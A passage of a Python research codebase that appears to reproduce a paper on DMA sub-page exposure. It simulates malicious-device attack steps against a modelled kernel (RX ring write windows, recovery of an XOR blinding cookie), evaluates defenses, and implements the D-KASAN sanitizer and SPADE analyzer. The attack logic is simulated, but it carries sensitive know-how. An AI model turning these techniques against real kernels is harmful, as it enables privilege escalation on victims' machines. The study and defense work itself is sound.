    ring = nic.rx_rings[cpu]
    desc = ring.next_for_device()
    if desc is None:
        raise AttackFailed("RX ring starved", stage="rx-window")
    slot, iova = desc.index, desc.iova
    truesize = skb_truesize(nic.rx_buf_size)
    if not nic.device_receive(wire_bytes, cpu=cpu):
        raise AttackFailed("RX ring refused the packet", stage="rx-window")
    device.dma_write(iova + truesize - 8, b"\x00" * 8)  # warm the IOTLB
    nic.napi_poll(cpu=cpu)
    # Reuse detection: the IOVA *pages* of the consumed buffer may be
    # recycled for the refill buffer (instantly under strict mode).
    # The device sees every posted descriptor's IOVA and buffer size,
    # so page-span overlap is device-computable.
    lo = iova >> 12
    hi = (iova + truesize - 1) >> 12
    reused = any((d.iova >> 12) <= hi
                 and ((d.iova + truesize - 1) >> 12) >= lo
                 for d in ring.posted_descriptors())
    ring_pairs = [(iova, truesize)]
    for ahead in (1, 2):
        neighbor = ring.descriptors[(slot + ahead) % ring.nr_desc]
        if neighbor.posted and not neighbor.completed:
            ring_pairs.append((neighbor.iova, truesize))
    window = ring_window(device, ring_pairs, 0, original_valid=not reused)
    window.slot = slot
    return window


def open_rx_window_covering(kernel, nic, device: MaliciousDevice,
                            packet_factory, ranges: list[tuple[int, int]],
                            *, cpu: int = 0, attempts: int = 8
                            ) -> BufferWriteWindow:
    """Open a window that can write every (offset, length) in *ranges*.

    Under strict invalidation only buffers with favourable page
    geometry (target bytes sharing a page with a still-posted
    neighbour) are attackable; a real device simply burns ring slots
    until one lines up. Each failed attempt's packet is processed
    normally by the victim -- the attack traffic looks like noise.
    """
    from repro.errors import AttackFailed

    last_window = None
    for attempt in range(attempts):
        window = open_rx_window(kernel, nic, device,
                                packet_factory(attempt), cpu=cpu)
        if all(window.can_write_range(offset, length)
               for offset, length in ranges):
            return window
        last_window = window
        kernel.stack.process_backlog()  # drain the failed attempt
    raise AttackFailed(
        f"no ring slot with a usable window in {attempts} attempts "
        f"(last slot {getattr(last_window, 'slot', -1)})",
        stage="time-window")
