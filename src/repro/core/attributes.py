"""The three vulnerability attributes for code injection (section 3.3).

"For a successful privilege escalation attack (i.e., code injection), a
malicious device needs the following set of three vulnerability
attributes":

1. the KVA of a kernel buffer filled with malicious code,
2. write access to a function callback pointer at a known location,
3. a time window in which the modification survives until the CPU
   jumps through the pointer.

All compound attacks are structured as the stepwise acquisition of
these attributes; each attack's report shows which step supplied which
attribute.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class AttributeEvidence:
    """How (and when) one attribute was obtained."""

    obtained: bool = False
    how: str = ""
    value: int | None = None


@dataclass
class VulnerabilityAttributes:
    """Tracks the trifecta across the stages of a (compound) attack."""

    #: attribute 1: KVA of the attacker's malicious buffer
    malicious_buffer_kva: AttributeEvidence = field(
        default_factory=AttributeEvidence)
    #: attribute 2: write access to a callback pointer at a known offset
    callback_write_access: AttributeEvidence = field(
        default_factory=AttributeEvidence)
    #: attribute 3: a usable modification window
    time_window: AttributeEvidence = field(default_factory=AttributeEvidence)

    @property
    def complete(self) -> bool:
        """All three attributes in hand -- the attack can be executed."""
        return (self.malicious_buffer_kva.obtained
                and self.callback_write_access.obtained
                and self.time_window.obtained)

    def missing(self) -> list[str]:
        out = []
        if not self.malicious_buffer_kva.obtained:
            out.append("malicious buffer KVA")
        if not self.callback_write_access.obtained:
            out.append("callback write access")
        if not self.time_window.obtained:
            out.append("time window")
        return out

    def record_kva(self, kva: int, how: str) -> None:
        self.malicious_buffer_kva = AttributeEvidence(True, how, kva)

    def record_callback_access(self, how: str,
                               where: int | None = None) -> None:
        self.callback_write_access = AttributeEvidence(True, how, where)

    def record_window(self, how: str) -> None:
        self.time_window = AttributeEvidence(True, how)

    def summary(self) -> str:
        lines = []
        for label, ev in (
                ("1. malicious buffer KVA", self.malicious_buffer_kva),
                ("2. callback write access", self.callback_write_access),
                ("3. time window", self.time_window)):
            status = "OBTAINED" if ev.obtained else "missing"
            lines.append(f"  {label}: {status}"
                         + (f" -- {ev.how}" if ev.how else ""))
        return "\n".join(lines)
