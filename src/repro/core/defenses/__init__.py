"""Defenses evaluated by the paper (sections 7-9)."""

from repro.core.defenses.blinding import PointerBlinding, recover_cookie
from repro.core.defenses.policy import DefenseConfig, build_victim

__all__ = ["PointerBlinding", "recover_cookie", "DefenseConfig",
           "build_victim"]
