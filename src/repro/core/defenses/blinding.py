"""macOS-style callback-pointer blinding (section 7).

"MacOS ... does expose the *mbuf* data structure to the device, though
with some precautions such as blinding the exposed callback pointer
*ext_free* by XORing it with a secret cookie. Indeed, this is
sufficient to defend against *single-step* attacks. However ...
*ext_free* can receive only one of two possible values. As a result,
once an attacker compromises MacOS KASLR, the random cookie is
revealed by a single XOR operation."
"""

from __future__ import annotations

from repro.sim.rng import DeterministicRng


class PointerBlinding:
    """XOR-cookie blinding of stored callback pointers."""

    def __init__(self, rng: DeterministicRng) -> None:
        self._cookie = rng.randint(1, (1 << 64) - 1)

    def blind(self, pointer: int) -> int:
        """What the kernel stores in the exposed field."""
        return pointer ^ self._cookie

    def unblind(self, stored: int) -> int:
        """What the kernel calls after loading the field."""
        return stored ^ self._cookie

    def cookie_for_test(self) -> int:
        """Ground-truth cookie, for experiment verification only."""
        return self._cookie


def recover_cookie(blinded_value: int, candidate_pointers: list[int]
                   ) -> list[int]:
    """Attacker side: cookie candidates from a leaked blinded field.

    With KASLR broken the attacker knows the handful of legitimate
    pointer values the field can hold, so each candidate yields a
    cookie guess ``blinded ^ candidate``; with only one or two
    legitimate values the cookie is effectively revealed.
    """
    return [blinded_value ^ candidate for candidate in candidate_pointers]
