"""Bounce-buffer DMA backend (Markuze et al., ASPLOS'16; section 8).

"Instead of dynamically mapping/unmapping pages, the DMA backend would
copy the buffer to/from designated pages with fixed mapping. By
keeping separate data pages for each device, they avoid data
co-location and, as a result, eliminate the sub-page granularity
vulnerability."

The backend is interface-compatible with :class:`repro.dma.api.DmaApi`
so a kernel can swap it in transparently. Each mapping gets its own
dedicated page(s): the device sees *only* the I/O bytes (rest of the
bounce page is zero), so leak harvesting finds nothing, and post-unmap
device writes land in the bounce page, never propagating back.

The model keeps the documented costs: a copy on map (TO_DEVICE /
BIDIRECTIONAL), a copy on unmap (FROM_DEVICE / BIDIRECTIONAL), and a
full page per buffer ("this solution imposes a large overhead of data
copying and memory waste").
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.dma.api import DmaApi
from repro.errors import DmaApiError
from repro.kaslr.translate import AddressSpace
from repro.mem.accounting import AllocSite
from repro.mem.buddy import BuddyAllocator
from repro.mem.phys import PAGE_SIZE, PhysicalMemory


@dataclass
class _BounceState:
    real_kva: int
    bounce_kva: int
    bounce_pfn: int
    order: int
    size: int
    direction: str


class BounceDmaApi:
    """Drop-in DMA API that round-trips every buffer via bounce pages."""

    def __init__(self, inner: DmaApi, phys: PhysicalMemory,
                 addr_space: AddressSpace, buddy: BuddyAllocator) -> None:
        self._inner = inner
        self._phys = phys
        self._addr_space = addr_space
        self._buddy = buddy
        self._states: dict[tuple[str, int], _BounceState] = {}
        self.bytes_copied = 0
        self.bounce_pages_used = 0

    @property
    def registry(self):
        return self._inner.registry

    def dma_map_single(self, device: str, kva: int, size: int,
                       direction: str, *,
                       site: AllocSite | None = None) -> int:
        order = 0
        while (PAGE_SIZE << order) < size:
            order += 1
        pfn = self._buddy.alloc_pages(
            order, site=site or AllocSite("bounce_alloc"))
        self.bounce_pages_used += 1 << order
        bounce_kva = self._addr_space.kva_of_pfn(pfn)
        # Fresh bounce pages are scrubbed: nothing co-located can leak.
        self._phys.write(pfn * PAGE_SIZE, bytes(PAGE_SIZE << order))
        if direction in ("DMA_TO_DEVICE", "DMA_BIDIRECTIONAL"):
            data = self._phys.read(self._addr_space.paddr_of_kva(kva), size)
            self._phys.write(pfn * PAGE_SIZE, data)
            self.bytes_copied += size
        iova = self._inner.dma_map_single(device, bounce_kva, size,
                                          direction, site=site)
        self._states[(device, iova)] = _BounceState(
            kva, bounce_kva, pfn, order, size, direction)
        return iova

    def dma_unmap_single(self, device: str, iova: int, size: int,
                         direction: str) -> None:
        state = self._states.pop((device, iova), None)
        if state is None:
            raise DmaApiError(f"bounce unmap of unknown IOVA {iova:#x}")
        if direction in ("DMA_FROM_DEVICE", "DMA_BIDIRECTIONAL"):
            data = self._phys.read(state.bounce_pfn * PAGE_SIZE, size)
            self._phys.write(self._addr_space.paddr_of_kva(state.real_kva),
                             data)
            self.bytes_copied += size
        self._inner.dma_unmap_single(device, iova, size, direction)
        self._buddy.free_pages(state.bounce_pfn)
        self.bounce_pages_used -= 1 << state.order

    def dma_map_page(self, device: str, pfn: int, offset: int, size: int,
                     direction: str, *,
                     site: AllocSite | None = None) -> int:
        kva = self._addr_space.kva_of_pfn(pfn, offset)
        return self.dma_map_single(device, kva, size, direction, site=site)

    def dma_unmap_page(self, device: str, iova: int, size: int,
                       direction: str) -> None:
        self.dma_unmap_single(device, iova, size, direction)
