"""Defense configuration matrix and attack-vs-defense evaluation.

Drives experiment E14: for each defense configuration, run the
single-step baseline and every compound attack, recording whether
privilege escalation succeeded and at which stage the defense stopped
it. The expected shape (from sections 5-9 of the paper):

* **no defense / deferred** -- everything succeeds;
* **strict invalidation** -- path (ii) closes, but type-(c) page_frag
  co-location (path iii) keeps the compound attacks alive;
* **bounce buffers** -- no leaks and no post-unmap propagation: the
  compound attacks die at the KASLR-break stage;
* **DAMN** -- the echo-path leaks die (I/O data segregated), but a
  forwarding host still falls to Forward Thinking, whose surveillance
  primitive reads arbitrary pages ("does not provide a solution for
  packet forwarding");
* **pointer blinding** -- stops the naked hijack, but a compound
  attacker who broke KASLR recovers the cookie by XORing a leaked
  blinded field with its known plaintext;
* **CET (IBT/shadow stack)** -- the JOP pivot lands mid-function /
  the poisoned returns mismatch the shadow stack: injection blocked.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

from repro.core.attacks.device import AttackerKnowledge, MaliciousDevice

if TYPE_CHECKING:
    from repro.sim.kernel import Kernel


@dataclass(frozen=True)
class DefenseConfig:
    """One row of the defense matrix."""

    name: str
    iommu_mode: str = "deferred"
    bounce_buffers: bool = False
    damn: bool = False
    pointer_blinding: bool = False
    cet_ibt: bool = False
    cet_shadow_stack: bool = False
    randomize_struct_layout: bool = False
    unmap_order: str = "unmap_first"
    forwarding: bool = True

    def kernel_kwargs(self) -> dict:
        return {
            "iommu_mode": self.iommu_mode,
            "bounce_buffers": self.bounce_buffers,
            "damn": self.damn,
            "pointer_blinding": self.pointer_blinding,
            "cet_ibt": self.cet_ibt,
            "cet_shadow_stack": self.cet_shadow_stack,
            "randomize_struct_layout": self.randomize_struct_layout,
            "forwarding": self.forwarding,
        }


#: The configurations the defense-matrix experiment sweeps.
STANDARD_CONFIGS: tuple[DefenseConfig, ...] = (
    DefenseConfig("baseline-deferred"),
    DefenseConfig("buggy-driver-order", unmap_order="skb_first"),
    DefenseConfig("strict", iommu_mode="strict"),
    DefenseConfig("bounce", bounce_buffers=True, iommu_mode="strict"),
    DefenseConfig("damn", damn=True, iommu_mode="strict"),
    DefenseConfig("blinding", pointer_blinding=True),
    DefenseConfig("randomize-layout", randomize_struct_layout=True),
    DefenseConfig("cet-ibt", cet_ibt=True),
    DefenseConfig("cet-shadow", cet_ibt=True, cet_shadow_stack=True),
)


def build_victim(config: DefenseConfig, *, seed: int = 1,
                 boot_index: int = 0, **kernel_overrides) -> "Kernel":
    """A booted victim kernel with *config*'s defenses installed."""
    from repro.sim.kernel import Kernel
    kwargs = config.kernel_kwargs()
    kwargs.update(kernel_overrides)
    kernel = Kernel(seed=seed, boot_index=boot_index, **kwargs)
    kernel.add_nic("eth0", unmap_order=config.unmap_order)
    return kernel


@dataclass
class MatrixCell:
    config: str
    attack: str
    escalated: bool
    blocked_at: str = ""


def evaluate_matrix(configs: tuple[DefenseConfig, ...] = STANDARD_CONFIGS,
                    *, seed: int = 1) -> list[MatrixCell]:
    """Run every attack against every configuration."""
    from repro.core.attacks.forward import run_forward_thinking
    from repro.core.attacks.poisoned_tx import run_poisoned_tx
    from repro.core.attacks.ringflood import (profile_replica_boots,
                                              run_ringflood)
    from repro.errors import AttackFailed

    cells: list[MatrixCell] = []
    profile = profile_replica_boots(
        24, seed=seed, kernel_config={"boot_jitter_blocks": 0})
    for config in configs:
        for attack_name, runner in (
                ("ringflood", lambda k, n, d: run_ringflood(
                    k, n, d, profile, nr_slots=8)),
                ("poisoned-tx", run_poisoned_tx),
                ("forward-thinking", run_forward_thinking)):
            kernel = build_victim(config, seed=seed,
                                  boot_jitter_blocks=0)
            nic = kernel.nics["eth0"]
            device = MaliciousDevice(
                kernel.iommu, "eth0",
                AttackerKnowledge.from_public_build(kernel.image))
            blocked_at = ""
            try:
                report = runner(kernel, nic, device)
                escalated = report.escalated
                if not escalated and report.stage_log:
                    blocked_at = report.stage_log[-1]
            except AttackFailed as exc:
                escalated = False
                blocked_at = f"{exc.stage}: {exc}"
            if not escalated and kernel.stack.stats.oopses:
                blocked_at = (blocked_at + "; kernel oops "
                              "(attack detected)").strip("; ")
            cells.append(MatrixCell(config.name, attack_name, escalated,
                                    blocked_at))
    return cells


def matrix_rows(cells: list[MatrixCell]) -> list[str]:
    """Render the matrix as fixed-width text rows."""
    attacks = sorted({c.attack for c in cells})
    configs = []
    for cell in cells:
        if cell.config not in configs:
            configs.append(cell.config)
    header = f"{'defense':22s}" + "".join(f"{a:>18s}" for a in attacks)
    rows = [header]
    for config in configs:
        row = f"{config:22s}"
        for attack in attacks:
            cell = next(c for c in cells
                        if c.config == config and c.attack == attack)
            row += f"{'PWNED' if cell.escalated else 'blocked':>18s}"
        rows.append(row)
    return rows
