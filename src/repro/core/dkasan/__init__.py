"""D-KASAN: the DMA Kernel Address SANitizer (section 4.2)."""

from repro.core.dkasan.sanitizer import DKasan, DKasanEvent
from repro.core.dkasan.shadow import ShadowMemory
from repro.core.dkasan.report import format_report, format_sample_lines

__all__ = ["DKasan", "DKasanEvent", "ShadowMemory", "format_report",
           "format_sample_lines"]
