"""D-KASAN report rendering (Figure 3 of the paper).

Each line shows "the size of the allocated buffer, the DMA access
type, and the allocating location (i.e., function name and offset)":

    [1] size 512 [READ, WRITE] __alloc_skb+0xe0/0x3f0
"""

from __future__ import annotations

from collections import Counter

from repro.core.dkasan.sanitizer import DKasan, DKasanEvent


def format_sample_lines(events: list[DKasanEvent], *,
                        limit: int | None = None) -> list[str]:
    """Figure-3-style numbered lines, deduplicated by rendering."""
    seen: list[str] = []
    for event in events:
        rendered = event.render()
        if rendered not in seen:
            seen.append(rendered)
        if limit is not None and len(seen) >= limit:
            break
    return [f"[{i + 1}] {line}" for i, line in enumerate(seen)]


def format_report(dkasan: DKasan) -> str:
    """Full report: per-kind counts plus deduplicated findings."""
    counts: Counter = dkasan.summary_counts()
    lines = ["D-KASAN report", "=============="]
    from repro.core.dkasan.sanitizer import EVENT_KINDS
    for kind in EVENT_KINDS:
        lines.append(f"{kind:26s}: {counts.get(kind, 0)} events")
    lines.append("")
    for event, count in sorted(dkasan.unique_findings(),
                               key=lambda item: -item[1]):
        lines.append(f"{event.kind:18s} x{count:<5d} {event.render()}")
    return "\n".join(lines)
