"""The D-KASAN sanitizer (section 4.2).

"We modified KASAN to record DMA-map operations in addition to memory
allocations." The sanitizer subscribes to the allocator and DMA API
event streams (:class:`repro.mem.accounting.MemEventSink`) and reports:

1. **alloc-after-map** -- a kmalloc object is allocated from a mapped
   page;
2. **map-after-alloc** -- the containing page is mapped after an
   object was allocated (the object was not the mapped buffer);
3. **access-after-map** -- the CPU accesses a DMA-mapped page;
4. **multiple-map** -- an object/page is mapped multiple times with
   possibly different permissions.
"""

from __future__ import annotations

import itertools
from collections import Counter, defaultdict
from dataclasses import dataclass

from repro import metrics, trace
from repro.core.dkasan.shadow import ShadowMemory, ShadowState
from repro.mem.accounting import AllocSite, MemEventSink
from repro.mem.phys import PAGE_SHIFT, PAGE_SIZE

EVENT_KINDS = ("alloc-after-map", "map-after-alloc", "access-after-map",
               "multiple-map",
               # device-side extensions (section 5.2.1's consequences):
               # a DMA that only worked because of a stale IOTLB entry,
               # and a DMA that touched memory already freed/reused
               "device-access-after-unmap", "device-access-after-free")


@dataclass(frozen=True)
class DKasanEvent:
    """One sanitizer finding."""

    kind: str
    size: int
    perms: tuple[str, ...]      # DMA access rights exposing the memory
    site: AllocSite             # the allocating (or accessing) location
    pfn: int
    device: str

    def render(self) -> str:
        perms = ", ".join(self.perms)
        return f"size {self.size} [{perms}] {self.site}"


@dataclass
class _LiveWindow:
    window_id: int
    paddr: int
    size: int
    perm: str
    device: str
    site: AllocSite

    @property
    def pfns(self) -> range:
        return range(self.paddr >> PAGE_SHIFT,
                     ((self.paddr + self.size - 1) >> PAGE_SHIFT) + 1)

    def contains_object(self, paddr: int, size: int) -> bool:
        """Whether [paddr, paddr+size) is (inside) the mapped buffer."""
        return self.paddr <= paddr and \
            paddr + size <= self.paddr + self.size


@dataclass
class _LiveObject:
    paddr: int
    size: int
    site: AllocSite

    @property
    def pfns(self) -> range:
        return range(self.paddr >> PAGE_SHIFT,
                     ((self.paddr + self.size - 1) >> PAGE_SHIFT) + 1)


class DKasan(MemEventSink):
    """Runtime detector of dynamic sub-page exposures.

    Pass an instance as the ``sink`` when constructing a
    :class:`repro.sim.kernel.Kernel`; every allocator and DMA event is
    then checked.
    """

    def __init__(self, phys_bytes: int) -> None:
        self.shadow = ShadowMemory(phys_bytes)
        self.events: list[DKasanEvent] = []
        self._ids = itertools.count(1)
        self._windows_by_pfn: dict[int, list[_LiveWindow]] = \
            defaultdict(list)
        self._objects_by_pfn: dict[int, list[_LiveObject]] = \
            defaultdict(list)
        self._objects_by_paddr: dict[int, _LiveObject] = {}
        #: throttle duplicate access-after-map floods per (site, pfn)
        self._access_seen: set[tuple[str, int]] = set()
        # most recently constructed sanitizer owns the metrics slot
        # (same last-boot-wins rule as the kernel collector)
        metrics.observe_dkasan(self)

    # -- helpers -------------------------------------------------------------

    def _active_perms(self, pfn: int) -> tuple[str, ...]:
        return tuple(sorted({w.perm
                             for w in self._windows_by_pfn.get(pfn, ())}))

    def _emit(self, kind: str, size: int, perms: tuple[str, ...],
              site: AllocSite, pfn: int, device: str) -> None:
        self.events.append(DKasanEvent(kind, size, perms, site, pfn,
                                       device))
        if trace.enabled("dkasan"):
            # trigger_seq cross-references the tracepoint (dma map,
            # device access, ...) whose handling raised this finding --
            # the most recent event in the flight recorder.
            trace.emit("dkasan", kind, size=size,
                       perms=list(perms), site=str(site), pfn=pfn,
                       device=device, trigger_seq=trace.last_seq())

    # -- MemEventSink implementation -------------------------------------------

    def on_alloc(self, paddr: int, size: int, site: AllocSite) -> None:
        obj = _LiveObject(paddr, size, site)
        self._objects_by_paddr[paddr] = obj
        for pfn in obj.pfns:
            self._objects_by_pfn[pfn].append(obj)
            exposing = [w for w in self._windows_by_pfn.get(pfn, ())
                        if not w.contains_object(paddr, size)]
            if exposing:
                perms = tuple(sorted({w.perm for w in exposing}))
                self._emit("alloc-after-map", size, perms, site, pfn,
                           exposing[0].device)
        self.shadow.poison_range(paddr, size, ShadowState.ALLOCATED)

    def on_free(self, paddr: int, size: int) -> None:
        obj = self._objects_by_paddr.pop(paddr, None)
        if obj is None:
            return
        for pfn in obj.pfns:
            try:
                self._objects_by_pfn[pfn].remove(obj)
            except ValueError:
                pass
        self.shadow.poison_range(paddr, size, ShadowState.FREED)

    def on_dma_map(self, paddr: int, size: int, perm: str,
                   device: str, site: AllocSite) -> None:
        window = _LiveWindow(next(self._ids), paddr, size, perm,
                             device, site)
        for page in window.pfns:
            existing = self._windows_by_pfn[page]
            if existing:
                # the page is now reachable through several mappings,
                # with the union of their permissions
                perms = tuple(sorted({w.perm for w in existing}
                                     | {perm}))
                for obj in self._objects_by_pfn.get(page, ()):
                    self._emit("multiple-map", obj.size, perms, obj.site,
                               page, device)
                if not self._objects_by_pfn.get(page):
                    self._emit("multiple-map", PAGE_SIZE, perms, site,
                               page, device)
            for obj in self._objects_by_pfn.get(page, ()):
                # the mapped buffer itself is *supposed* to be mapped;
                # only co-located bystanders are findings
                if window.contains_object(obj.paddr, obj.size):
                    continue
                self._emit("map-after-alloc", obj.size, (perm,),
                           obj.site, page, device)
            existing.append(window)

    def on_dma_unmap(self, paddr: int, size: int, device: str) -> None:
        first = paddr >> PAGE_SHIFT
        last = (paddr + size - 1) >> PAGE_SHIFT
        victim_id = None
        for page in range(first, last + 1):
            windows = self._windows_by_pfn[page]
            for window in windows:
                if window.paddr == paddr and window.size == size \
                        and window.device == device \
                        and (victim_id is None
                             or window.window_id == victim_id):
                    victim_id = window.window_id
                    windows.remove(window)
                    break

    def on_cpu_access(self, paddr: int, size: int, write: bool,
                      site: AllocSite) -> None:
        pfn = paddr >> PAGE_SHIFT
        perms = self._active_perms(pfn)
        if not perms:
            return
        key = (site.function, pfn)
        if key in self._access_seen:
            return
        self._access_seen.add(key)
        self._emit("access-after-map", size, perms, site,
                   pfn, self._windows_by_pfn[pfn][0].device)

    def on_device_access(self, paddr: int, size: int, write: bool,
                         device: str, stale: bool) -> None:
        """Device-side checks (not in the paper's tool, which hooked
        only CPU-side events; the IOMMU model makes these visible):

        * ``device-access-after-unmap``: the translation used was a
          stale IOTLB entry -- the deferred-invalidation window in
          action (Figure 6);
        * ``device-access-after-free``: the accessed bytes belong to a
          freed (possibly already reused) object -- the hot-page-reuse
          hazard of section 5.2.1.
        """
        kind = "write" if write else "read"
        site = AllocSite(f"dma_{kind}:{device}")
        perms = ("WRITE",) if write else ("READ",)
        if stale:
            self._emit("device-access-after-unmap", size, perms, site,
                       paddr >> PAGE_SHIFT, device)
        if self.shadow.any_state_in(paddr, size, ShadowState.FREED):
            self._emit("device-access-after-free", size, perms, site,
                       paddr >> PAGE_SHIFT, device)

    # -- reporting ---------------------------------------------------------------

    def events_of(self, kind: str) -> list[DKasanEvent]:
        return [e for e in self.events if e.kind == kind]

    def detected_site_functions(self, *,
                                kinds: tuple[str, ...] | None = None
                                ) -> set[str]:
        """Site-function names that triggered at least one event.

        The campaign replay encodes ``path:line`` manifest identities
        as the site-function string, so this set is the join key that
        turns runtime events back into per-call-site detections.
        """
        return {e.site.function for e in self.events
                if kinds is None or e.kind in kinds}

    def summary_counts(self) -> Counter:
        return Counter(e.kind for e in self.events)

    def unique_findings(self) -> list[tuple[DKasanEvent, int]]:
        """Events deduplicated by (kind, size, perms, site), with counts."""
        buckets: dict[tuple, list[DKasanEvent]] = defaultdict(list)
        for event in self.events:
            buckets[(event.kind, event.size, event.perms,
                     str(event.site))].append(event)
        return [(items[0], len(items)) for items in buckets.values()]
