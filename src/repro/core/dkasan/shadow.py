"""Shadow memory, KASAN-style.

"KASAN uses shadow memory to record whether a memory byte is safe to
access" -- one shadow byte tracks an 8-byte granule. D-KASAN extends
the encoding with DMA exposure: in addition to allocation state, each
granule knows whether its page is currently device-accessible.
"""

from __future__ import annotations

import enum

from repro.mem.phys import PAGE_SHIFT

GRANULE = 8
GRANULES_PER_PAGE = (1 << PAGE_SHIFT) // GRANULE


class ShadowState(enum.IntEnum):
    """Per-granule allocation state (the classic KASAN byte)."""

    UNTRACKED = 0
    ALLOCATED = 1
    FREED = 2       # freed at least once: use-after-free candidates
    REDZONE = 3


class ShadowMemory:
    """Sparse shadow: one state byte per 8-byte granule."""

    def __init__(self, phys_bytes: int) -> None:
        self._limit = phys_bytes // GRANULE
        self._shadow: dict[int, int] = {}

    def _index(self, paddr: int) -> int:
        index = paddr // GRANULE
        if not 0 <= index < self._limit:
            raise ValueError(f"shadow index for paddr {paddr:#x} "
                             f"out of range")
        return index

    def poison_range(self, paddr: int, size: int,
                     state: ShadowState) -> None:
        start = self._index(paddr)
        end = self._index(paddr + max(size - 1, 0))
        for index in range(start, end + 1):
            if state == ShadowState.UNTRACKED:
                self._shadow.pop(index, None)
            else:
                self._shadow[index] = int(state)

    def state_at(self, paddr: int) -> ShadowState:
        return ShadowState(self._shadow.get(self._index(paddr), 0))

    def any_state_in(self, paddr: int, size: int,
                     state: ShadowState) -> bool:
        start = self._index(paddr)
        end = self._index(paddr + max(size - 1, 0))
        return any(self._shadow.get(i, 0) == int(state)
                   for i in range(start, end + 1))

    @property
    def tracked_granules(self) -> int:
        return len(self._shadow)
