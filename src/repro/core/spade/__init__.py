"""SPADE: Sub-Page Analysis for DMA Exposure (section 4.1)."""

from repro.core.spade.analyzer import Spade
from repro.core.spade.findings import (Finding, Table2Stats,
                                       exposures_by_site)
from repro.core.spade.report import format_finding_trace, format_table2

__all__ = ["Spade", "Finding", "Table2Stats", "exposures_by_site",
           "format_finding_trace", "format_table2"]
