"""The SPADE analysis (section 4.1.1).

"SPADE operates recursively starting from calls to the dma_map*
functions. From this initial set of calls, SPADE identifies the mapped
variables and backtracks their declarations and assignments. When a
data structure is identified as exposed, SPADE identifies the exposed
callback pointers or mapped heap pointers."

Detection rules (section 4.1's three types):

* **Type A** -- the mapped expression resolves to (a field of) a
  driver struct: the whole struct shares the mapped page; pahole
  reports its direct and spoofable callback pointers.
* **Type B** -- ``skb->data`` maps (skb_shared_info rides along) and
  ``build_skb`` users (the kernel embeds the struct into the buffer).
* **Type C** -- the buffer comes from the ``page_frag`` family
  (``netdev_alloc_skb``, ``napi_alloc_skb``, ``page_frag_alloc``,
  ``netdev_alloc_frag``): co-located buffers keep the page reachable.
* plus private-data APIs (``netdev_priv`` et al.) and on-stack
  buffers.

When the mapped variable is a function parameter, the analysis
recurses into every caller (Cscope-style), classifying the caller's
argument expression -- bounded by ``max_depth``.
"""

from __future__ import annotations

import time

from repro import metrics, perfcache
from repro.core.spade.cindex import CodeIndex
from repro.core.spade.cparse import PARSER_VERSION, FunctionDef
from repro.core.spade.findings import Finding, Table2Stats, ValidationResult
from repro.core.spade.pahole import PaholeDb
from repro.corpus.generate import SourceTree
from repro.corpus.manifest import Manifest
from repro.perfcache.codec import decode_findings, encode_findings

#: bump when classification rules change: cached findings keyed under
#: the old version miss in full and are re-derived
ANALYZER_VERSION = 1

#: map function -> index of the buffer-identifying argument
DMA_MAP_FUNCTIONS = {
    "dma_map_single": 1,   # (dev, ptr, size, dir)
    "dma_map_page": 1,     # (dev, page, offset, size, dir)
    "dma_map_sg": 1,       # (dev, sg, nents, dir)
}

PRIV_APIS = {"netdev_priv", "aead_request_ctx", "scsi_cmd_priv"}
PAGE_FRAG_APIS = {"page_frag_alloc", "netdev_alloc_frag"}
SKB_PAGE_FRAG_ALLOCS = {"netdev_alloc_skb", "napi_alloc_skb"}
HEAP_APIS = {"kmalloc", "kzalloc"}

DEFAULT_MAX_DEPTH = 4


class Spade:
    """Static Sub-Page Analysis for DMA Exposure over a source tree."""

    def __init__(self, tree: SourceTree, *,
                 max_depth: int = DEFAULT_MAX_DEPTH,
                 cache: "perfcache.PerfCache | None" = None) -> None:
        self._cache = perfcache.default_cache() if cache is None else cache
        self.index = CodeIndex(tree, cache=self._cache)
        self.pahole = PaholeDb(self.index.structs)
        self._max_depth = max_depth

    # -- entry point -----------------------------------------------------------

    def corpus_digest(self) -> str:
        """Content digest of the whole analysis input.

        Covers every file's SHA-256, the parser and analyzer versions,
        and the recursion bound -- everything the finding list is a
        pure function of. Equal digests mean byte-identical findings,
        which is what lets a warm Table 2 / Figure 2 re-run skip the
        analysis entirely.
        """
        lines = [f"{path}\x00{digest}"
                 for path, digest in sorted(self.index.file_hashes.items())]
        return perfcache.content_key(
            "findings", str(PARSER_VERSION), str(ANALYZER_VERSION),
            str(self._max_depth), *lines)

    def analyze(self) -> list[Finding]:
        """One finding per dma-map call site in the tree (cached)."""
        started = time.perf_counter()
        findings = self._cache.cached(
            "findings", self.corpus_digest(), self._analyze_uncached,
            encode=encode_findings, decode=decode_findings)
        metrics.observe("spade", "analyze_seconds",
                        time.perf_counter() - started)
        metrics.count("spade", "analyses")
        metrics.count("spade", "findings", len(findings))
        return findings

    def _analyze_uncached(self) -> list[Finding]:
        findings = []
        for map_fn, arg_index in DMA_MAP_FUNCTIONS.items():
            for record in self.index.callers_of(map_fn):
                if record.file.endswith(".h"):
                    continue  # prototypes live in headers
                if len(record.call.args) <= arg_index:
                    continue
                expr = record.call.args[arg_index]
                finding = Finding(record.file, record.call.line, expr)
                finding.note(
                    f"{record.file}:{record.call.line}: "
                    f"{map_fn}(..., {expr}, ...) in "
                    f"{record.caller.name}()")
                if map_fn == "dma_map_sg":
                    self._classify_sg(record.file, record.caller, expr,
                                      finding)
                else:
                    self._classify_expr(record.file, record.caller,
                                        expr, finding, self._max_depth)
                findings.append(finding)
        return findings

    def _classify_sg(self, file: str, func, expr: str,
                     finding: Finding) -> None:
        """Scatter/gather lists: classify each buffer fed into the sg.

        Drivers populate scatterlists with ``sg_set_buf(sg, ptr, len)``
        (or sg_set_page); the pointers given there are what the device
        sees, so each such call in the enclosing function is analyzed
        like a direct map of its buffer argument.
        """
        found_any = False
        for call in func.calls:
            if call.callee in ("sg_set_buf", "sg_set_page") \
                    and len(call.args) >= 2:
                found_any = True
                finding.note(
                    f"{file}:{call.line}: scatterlist entry "
                    f"{call.callee}(..., {call.args[1]}, ...)")
                self._classify_expr(file, func, call.args[1], finding,
                                    self._max_depth)
        if not found_any:
            finding.note(
                "scatterlist populated outside this function "
                "(potential false negative)")

    # -- expression classification ------------------------------------------------

    def _classify_expr(self, file: str, func: FunctionDef, expr: str,
                       finding: Finding, depth: int) -> None:
        if depth <= 0:
            finding.note("recursion limit reached; giving up "
                         "(potential false negative)")
            return
        tokens = expr.split()
        take_address = bool(tokens) and tokens[0] == "&"
        if take_address:
            tokens = tokens[1:]
        if len(tokens) == 3 and tokens[1] == "->":
